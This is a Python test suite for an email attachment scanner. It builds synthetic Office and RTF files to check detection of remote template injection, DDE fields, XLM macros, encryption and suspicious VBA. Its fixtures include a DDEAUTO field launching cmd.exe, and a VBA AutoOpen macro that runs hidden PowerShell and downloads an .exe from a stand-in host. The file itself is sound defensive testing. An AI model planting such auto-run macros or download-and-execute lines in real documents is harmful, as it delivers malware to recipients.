"""Office documents: XLM macro sheets, remote templates, DDE, hyperlinks, encryption, VBA, RTF objects.

VBA projects inside real OLE/OOXML containers cannot be generated here (no CFB writer for the
compressed VBA `dir` stream, and oletools' wheel ships no test documents), so the VBA path is tested
through oletools' plain-text VBA source mode, which runs the same keyword analysis.
"""

from __future__ import annotations

import io

from attachment_helpers import analyze, make_zip, message_with

CT = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="xml" ContentType="application/xml"/></Types>')
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFREL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _docx(extra: dict[str, str], document: str = "<w:document><w:body><w:p/></w:body></w:document>") -> bytes:
    members = {"[Content_Types].xml": CT, "_rels/.rels": f'<Relationships xmlns="{REL_NS}"/>',
               "word/document.xml": document}
    members.update(extra)
    return make_zip({k: v.encode() for k, v in members.items()})


def test_remote_template_injection():
    rels = (f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{OFFREL}/attachedTemplate" '
            'Target="http://templates.example.net/t.dotm" TargetMode="External"/></Relationships>')
    doc = _docx({"word/_rels/settings.xml.rels": rels, "word/settings.xml": "<w:settings/>"})
    syms, facts = analyze(message_with([("offer.docx", "application/vnd.openxmlformats-officedocument."
                                         "wordprocessingml.document", doc)]))
    assert "OFFICE_REMOTE_TEMPLATE" in syms
    assert any(u == "http://templates.example.net/t.dotm" for u, _ in facts["extra_urls"])


def test_hyperlinks_become_extra_urls_and_stay_quiet():
    rels = (f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId5" Type="{OFFREL}/hyperlink" '
            'Target="https://www.example.org/policy" TargetMode="External"/>'
            f'<Relationship Id="rId1" Type="{OFFREL}/styles" Target="styles.xml"/></Relationships>')
    doc = _docx({"word/_rels/document.xml.rels": rels})
    syms, facts = analyze(message_with([("policy.docx", "application/octet-stream", doc)]))
    assert syms == set()
    assert ("https://www.example.org/policy", "hyperlink in policy.docx") in facts["extra_urls"]


def test_dde_field():
    body = ('<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
            '<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
            '</w:p></w:body></w:document>')
    syms, _ = analyze(message_with([("memo.docx", "application/octet-stream", _docx({}, body))]))
    assert "OFFICE_DDE" in syms


def test_xlm_macrosheet_in_xlsm():
    # oletools misses XLM macro sheets in .xlsm; our own check must not.
    book = make_zip({"[Content_Types].xml": CT.encode(), "xl/workbook.xml": b"<workbook/>",
                     "xl/macrosheets/sheet1.xml": b"<xm:macrosheet><c><f>EXEC(\"calc\")</f></c></xm:macrosheet>"})
    syms, _ = analyze(message_with([("prices.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", book)]))
    assert "OFFICE_XLM_MACRO" in syms
    plain = make_zip({"[Content_Types].xml": CT.encode(), "xl/workbook.xml": b"<workbook/>",
                      "xl/worksheets/sheet1.xml": b"<worksheet><c><v>1</v></c></worksheet>"})
    syms, _ = analyze(message_with([("prices.xlsx", "application/octet-stream", plain)]))
    assert syms == set()


def test_encrypted_office_document():
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(_docx({}))).encrypt("pw", out)
    syms, _ = analyze(message_with([("salary.docx", "application/octet-stream", out.getvalue())]))
    assert "OFFICE_ENCRYPTED" in syms


def test_vba_keyword_analysis():
    from mailwarden.attachments.office import _vba

    src = (b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  CreateObject("WScript.Shell").Run '
           b'"powershell -w hidden"\r\n  URLDownloadToFileA 0, "http://dl.example.com/a.exe", "a.exe", 0, 0\r\n'
           b"End Sub\r\n")
    kinds = {o.kind for o in _vba(src, "macro.bas").observations}
    assert {"office_macro", "office_macro_autoexec", "office_macro_suspicious"} <= kinds
    quiet = {o.kind for o in _vba(b'Sub Total()\r\n  x = 1 + 2\r\nEnd Sub\r\n', "sum.bas").observations}
    assert not quiet & {"office_macro_autoexec", "office_macro_suspicious"}


def test_rtf_objupdate():
    rtf = b"{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002}}}"
    syms, _ = analyze(message_with([("order.rtf", "application/rtf", rtf)]))
    assert "RTF_OBJUPDATE" in syms
    syms, _ = analyze(message_with([("letter.rtf", "application/rtf", b"{\\rtf1\\ansi Hello {\\b world}.}")]))
    assert syms == set()


def test_corrupt_ole_is_a_finding():
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    syms, _ = analyze(message_with([("old.doc", "application/msword", data)]))
    assert "ATTACHMENT_CORRUPT" in syms
